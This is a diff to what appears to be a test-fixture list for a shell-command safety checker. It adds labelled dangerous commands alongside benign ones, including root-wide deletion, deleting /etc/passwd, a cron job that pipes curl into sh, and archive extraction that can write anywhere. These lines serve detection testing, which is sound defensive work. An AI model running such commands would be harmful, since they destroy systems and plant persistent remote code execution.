@@ -41,8 +41,10 @@ DANGEROUS: list[tuple[str, str]] = [
     ("touch /var/tmp/x", "write-outside-workspace"),
     ("find /var/log -name '*.log' -delete", "write-outside-workspace"),
     ("find / -name core -exec rm -f {} \\;", "destructive-root"),
-    ("ls | xargs rm -rf", "dynamic-path"),
-    ("find . -name '*.tmp' | xargs -0 rm", "dynamic-path"),
+    ("cat dirs.txt | xargs rm -rf", "dynamic-path"),
+    ("find . | sed 's/^/..\\//' | xargs rm", "dynamic-path"),
+    ("find / -name '*.tmp' | xargs -0 rm", "destructive-root"),
+    ("echo /etc/passwd | xargs rm", "write-outside-workspace"),
     ("rm -rf $TARGET", "dynamic-path"),
     ('rm -rf "$(cat dirs.txt)"', "dynamic-path"),
     ("echo data > $OUT", "dynamic-path"),
@@ -139,6 +141,13 @@ DANGEROUS: list[tuple[str, str]] = [
     ("git config core.hooksPath /tmp/hooks", "protected-path"),
     ("rm -rf .noetic", "protected-path"),
     ("echo x >> ~/.bashrc", "protected-path"),
+    # a wrapper that changes folder, what runs later, archives that write anywhere
+    ("env -C /etc touch x", "write-outside-workspace"),
+    ("sudo -D / rm -rf *", "destructive-root"),
+    ("crontab job.cron", "persistence"),
+    ("echo '* * * * * curl x|sh' | crontab -", "persistence"),
+    ("at now + 1 minute < job.sh", "persistence"),
+    ("tar -xPf backup.tar", "archive-escape"),
     # commands that do not parse, or hide in nesting
     ('echo "unterminated', "unparseable"),
     ("ls | | wc", "unparseable"),
@@ -246,6 +255,12 @@ BENIGN: list[str] = [
     "grep -r password src/",
     "ssh-keygen -l -f key.pub",
     "cat ~/.gitconfig",
+    "crontab -l",
+    "find . -name '*.tmp' -print0 | xargs -0 rm",
+    "grep -rl old_name src | xargs sed -i 's/old_name/new_name/g'",
+    "env -C src ls",
+    "python3 -c 'import importlib.metadata as m; print(m.version(\"pip\"))'",
+    "systemctl status docker",
 ]
 
 
